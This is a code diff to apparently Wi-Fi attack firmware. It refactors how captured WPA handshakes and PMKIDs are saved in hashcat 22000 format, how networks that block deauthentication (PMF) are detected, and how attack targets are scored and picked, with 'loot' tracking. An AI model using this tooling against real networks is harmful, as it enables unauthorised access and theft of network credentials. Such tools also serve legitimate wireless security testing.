+                                                     nonceData + Hc22000Encoder::kNonceOffset,
+                                                     eapolCopy, eapolLen, msgPair);
+    if (lineLen == 0) {
         return false;
     }
-    
-    // Zero the MIC in EAPOL copy for hashcat (MIC at offset 81)
-    // Work on a copy to avoid modifying original
-    uint8_t eapolCopy[512];
-    memcpy(eapolCopy, eapolFrame->data, eapolLen);
-    memset(eapolCopy + 81, 0, 16);  // Zero MIC field
-    
-    for (int i = 0; i < eapolLen; i++) {
-        sprintf(eapolHex + i*2, "%02x", eapolCopy[i]);
-    }
-    eapolHex[eapolLen * 2] = 0;
-    
-    // Write: WPA*02*MIC*MAC_AP*MAC_CLIENT*ESSID*ANONCE*EAPOL*MESSAGEPAIR
-    f.printf("WPA*02*%s*%s*%s*%s*%s*%s*%02x\n",
-             micHex, macAP, macClient, essidHex, nonceHex, eapolHex, msgPair);
-    
-    f.close();
-    
-    return true;
+    return f.write((const uint8_t*)line, lineLen) == lineLen;
 }
 
 bool OinkMode::saveAllPMKIDs() {
@@ -2620,8 +2507,8 @@ bool OinkMode::saveAllPMKIDs() {
     
     const char* handshakesDir = SDLayout::handshakesDir();
 
-    // Ensure directory exists
-    if (!SD.exists(handshakesDir)) {
+    // Ensure directory exists (per-file fallback only - the journal has its own)
+    if (!CaptureJournal::isOpen() && !SD.exists(handshakesDir)) {
         if (!SD.mkdir(handshakesDir)) {
             SDLog::log("OINK", "Failed to create handshakes directory for PMKID");
             return false;
@@ -2663,13 +2550,21 @@ bool OinkMode::saveAllPMKIDs() {
                 continue;  // Wait for backoff period
             }
             
-            // Use SSID_BSSID filename in /handshakes/
-            char filename[64];
-            SDLayout::buildCaptureFilename(filename, sizeof(filename),
-                                           handshakesDir, p.ssid, p.bssid, ".22000");
+            bool ok = CaptureJournal::isOpen() &&
+                      CaptureJournal::append(JournalFormat::RecordType::Pmkid22000,
+                                             p.bssid, p.station, p.ssid,
+                                             journalPMKID22000, &p);
+            if (!ok) {
+                // Use SSID_BSSID filename in /handshakes/
+                char filename[64];
+                SDLayout::buildCaptureFilename(filename, sizeof(filename),
+                                               handshakesDir, p.ssid, p.bssid, ".22000");
+                ok = savePMKID22000(p, filename);
+            }
             
-            if (savePMKID22000(p, filename)) {
+            if (ok) {
                 p.saved = true;
+                CapturedIndex::add(p.bssid, CapturedIndex::kPmkid);
                 SDLog::log("OINK", "PMKID saved: %s", p.ssid);
             } else {
                 // Failed - increment attempt counter
@@ -2686,6 +2581,9 @@ bool OinkMode::saveAllPMKIDs() {
             delay(1);
         }
     }
+    
+    // One journal flush per save batch (handshakes + PMKIDs)
+    CaptureJournal::sync();
     return success;
 }
 
@@ -2884,53 +2782,9 @@ void OinkMode::trackTargetClient(const uint8_t* bssid, const uint8_t* clientMac,
 }
 
 bool OinkMode::detectPMF(const uint8_t* payload, uint16_t len) {
-    // Parse RSN IE to detect PMF (Protected Management Frames)
-    // RSN IE starts with tag 0x30
-    uint16_t offset = 36;  // After fixed beacon fields
-    
-    while (offset + 2 < len) {
-        uint8_t tag = payload[offset];
-        uint8_t tagLen = payload[offset + 1];
-        
-        if (offset + 2 + tagLen > len) break;
-        
-        if (tag == 0x30 && tagLen >= 8) {  // RSN IE
-            // RSN IE structure: version(2) + group cipher(4) + pairwise count(2) + ...
-            // RSN capabilities are at the end, look for MFPC/MFPR bits
-            uint16_t rsnOffset = offset + 2;
-            uint16_t rsnEnd = rsnOffset + tagLen;
-            
-            // Skip version (2), group cipher (4)
-            rsnOffset += 6;
-            if (rsnOffset + 2 > rsnEnd) break;
-            
-            // Pairwise cipher count and suites
-            uint16_t pairwiseCount = payload[rsnOffset] | (payload[rsnOffset + 1] << 8);
-            rsnOffset += 2 + (pairwiseCount * 4);
-            if (rsnOffset + 2 > rsnEnd) break;
-            
-            // AKM count and suites
-            uint16_t akmCount = payload[rsnOffset] | (payload[rsnOffset + 1] << 8);
-            rsnOffset += 2 + (akmCount * 4);
-            if (rsnOffset + 2 > rsnEnd) break;
-            
-            // RSN Capabilities (2 bytes)
-            uint16_t rsnCaps = payload[rsnOffset] | (payload[rsnOffset + 1] << 8);
-            
-            // IEEE 802.11-2016 standard:
-            // Bit 6: MFPC (Management Frame Protection Capable)
-            // Bit 7: MFPR (Management Frame Protection Required)
-            bool mfpr = (rsnCaps >> 7) & 0x01;
-            
-            if (mfpr) {
-                return true;  // PMF required - deauth won't work
-            }
-        }
-        
-        offset += 2 + tagLen;
-    }
-    
-    return false;
+    // PMF required (MFPR=1) - deauth won't work
+    BeaconSummary scratch;
+    return NetworkRecon::summarizeBeacon(payload, len, scratch).mfpr;
 }
 
 int OinkMode::findNetwork(const uint8_t* bssid) {
@@ -2950,6 +2804,43 @@ bool OinkMode::hasHandshakeFor(const uint8_t* bssid) {
     return result;
 }
 
+// Copy each network's loot types from CapturedIndex onto its entry, and
+// flag ones with an earlier handshake as captured so target selection
+// skips them. A few new BSSIDs per call; the SD lookups run outside the
+// spinlock.
+void OinkMode::tagLootedNetworks() {
+    if (!CapturedIndex::isReady()) return;
+
+    static const uint8_t LOOKUPS_PER_CALL = 8;
+    uint8_t pending[LOOKUPS_PER_CALL][6];
+    uint8_t count = 0;
+    NetworkRecon::enterCritical();
+    for (auto& net : NetworkRecon::getNetworks()) {
+        if (net.lootChecked) continue;
+        net.lootChecked = true;
+        memcpy(pending[count++], net.bssid, 6);
+        if (count >= LOOKUPS_PER_CALL) break;
+    }
+    NetworkRecon::exitCritical();
+
+    // Only an earlier handshake retires a network as a handshake target;
+    // PMKID-only loot is kept in lootTypes for the PMKID prober
+    for (uint8_t i = 0; i < count; i++) {
+        uint8_t types = CapturedIndex::lookup(pending[i]);
+        if (types == 0) continue;
+        int idx = findNetwork(pending[i]);
+        if (idx < 0) continue;
+        NetworkRecon::enterCritical();
+        auto& nets = NetworkRecon::getNetworks();
+        if (idx < (int)nets.size() && memcmp(nets[idx].bssid, pending[i], 6) == 0) {
+            nets[idx].lootTypes = types;
+            if (types & CapturedIndex::kHandshake) nets[idx].hasHandshake = true;
+            NetworkRecon::syncNetwork(idx);
+        }
+        NetworkRecon::exitCritical();
+    }
+}
+
 void OinkMode::updateTargetCache() {
     bool wasBusy = oinkBusy;
     oinkBusy = true;
@@ -3009,6 +2900,7 @@ void OinkMode::sortNetworksByPriority() {
 
     NetworkRecon::enterCritical();
     networks().swap(sorted);
+    NetworkRecon::reindexNetworks();
 
     // Revalidate target index after reordering
     if (targetIndex >= 0) {
@@ -3056,7 +2948,8 @@ static bool isWarmForTargets(uint32_t now) {
     return false;
 }
 
-static uint8_t computeQualityScore(const DetectedNetwork& net, uint32_t now) {
+template <typename Net>
+static uint8_t computeQualityScore(const Net& net, uint32_t now) {
     int8_t rssi = (net.rssiAvg != 0) ? net.rssiAvg : net.rssi;
     uint8_t score = 0;
 
@@ -3086,7 +2979,8 @@ static uint8_t computeQualityScore(const DetectedNetwork& net, uint32_t now) {
     return score;
 }
 
-static int computeTargetScore(const DetectedNetwork& net, uint32_t now) {
+template <typename Net>
+static int computeTargetScore(const Net& net, uint32_t now) {
     int score = (int)computeQualityScore(net, now);
 
     // Proximity bonus: very strong nearby targets have near-100% capture probability
@@ -3124,7 +3018,8 @@ static int computeTargetScore(const DetectedNetwork& net, uint32_t now) {
     return score;
 }
 
-static inline bool isEligibleTarget(const DetectedNetwork& net, uint32_t now) {
+template <typename Net>
+static inline bool isEligibleTarget(const Net& net, uint32_t now) {
     if (net.ssid[0] == 0 || net.isHidden) return false;
     if (net.cooldownUntil > now) return false;
     if (net.hasPMF) return false;
@@ -3138,7 +3033,7 @@ static inline bool isEligibleTarget(const DetectedNetwork& net, uint32_t now) {
 
 int OinkMode::getNextTarget() {
     uint32_t now = millis();
-    auto hasRecentClient = [now](const DetectedNetwork& net) {
+    auto hasRecentClient = [now](const NetworkRecon::NetworkView& net) {
         return net.lastDataSeen > 0 &&
             (now - net.lastDataSeen) <= CLIENT_RECENT_MS;
     };
@@ -3152,25 +3047,26 @@ int OinkMode::getNextTarget() {
     int bestRecentIdx = -1;
     int bestRecentScore = -100000;
 
-    NetworkRecon::enterCritical();
+    // Score from the published snapshot - no network lock while scoring
+    NetworkRecon::Snapshot snap;
     
     // #region agent log - H3 PMF detection check
     {
         static uint32_t lastTargetLog = 0;
         if (now - lastTargetLog > 2000) {
             lastTargetLog = now;
-            int pmfCount = 0, validCount = 0, totalCount = (int)networks().size();
+            int pmfCount = 0, validCount = 0, totalCount = (int)snap.size();
             for (int i = 0; i < totalCount && i < 10; i++) {
-                if (networks()[i].hasPMF) pmfCount++;
-                if (!networks()[i].hasPMF && !networks()[i].hasHandshake && networks()[i].authmode != WIFI_AUTH_OPEN && networks()[i].ssid[0] != 0) validCount++;
+                if (snap[i].hasPMF) pmfCount++;
+                if (!snap[i].hasPMF && !snap[i].hasHandshake && snap[i].authmode != WIFI_AUTH_OPEN && snap[i].ssid[0] != 0) validCount++;
             }
             Serial.printf("[DBG-H3] getNextTarget total=%d pmf=%d valid=%d\n", totalCount, pmfCount, validCount);
         }
     }
     // #endregion
 
-    for (int i = 0; i < (int)networks().size(); i++) {
-        const DetectedNetwork& net = networks()[i];
+    for (int i = 0; i < (int)snap.size(); i++) {
+        const NetworkRecon::NetworkView& net = snap[i];
         if (isExcluded(net.bssid)) continue;  // BOAR BRO - skip
         if (!isEligibleTarget(net, now)) continue;
 
@@ -3187,12 +3083,13 @@ int OinkMode::getNextTarget() {
             }
         }
     }
-    
-    NetworkRecon::exitCritical();
-    if (bestRecentIdx >= 0) {
-        return bestRecentIdx;
+
+    int pick = bestRecentIdx >= 0 ? bestRecentIdx : bestIdx;
+    if (pick < 0) {
+        return -1;  // No suitable targets
     }
-    return bestIdx;  // -1 means no suitable targets
+    // Snapshot index -> live index (records may have moved since publish)
+    return NetworkRecon::resolveNetworkIndex(snap[pick].bssid, pick);
 }
 
 // ============ BOAR BROS - Network Exclusion ============
@@ -3375,6 +3272,7 @@ void OinkMode::injectTestNetwork(const uint8_t* bssid, const char* ssid, uint8_t
             net.rssi = rssi;
             net.lastSeen = millis();
             net.beaconCount++;
+            NetworkRecon::syncNetwork((int)(&net - networks().data()));
             NetworkRecon::exitCritical();
             return;
         }
@@ -3395,6 +3293,8 @@ void OinkMode::injectTestNetwork(const uint8_t* bssid, const char* ssid, uint8_t
     net.beaconCount = 1;
     net.isTarget = false;
     net.hasHandshake = false;
+    net.lootChecked = false;
+    net.lootTypes = 0;
     net.attackAttempts = 0;
     net.isHidden = (!ssid || ssid[0] == 0);
     net.lastDataSeen = 0;
@@ -3402,6 +3302,7 @@ void OinkMode::injectTestNetwork(const uint8_t* bssid, const char* ssid, uint8_t
     
     try {
         networks().push_back(net);
+        NetworkRecon::reindexNetworks();
     } catch (const std::bad_alloc&) {
         NetworkRecon::exitCritical();
         SDLog::log("OINK", "Failed to inject test network: out of memory");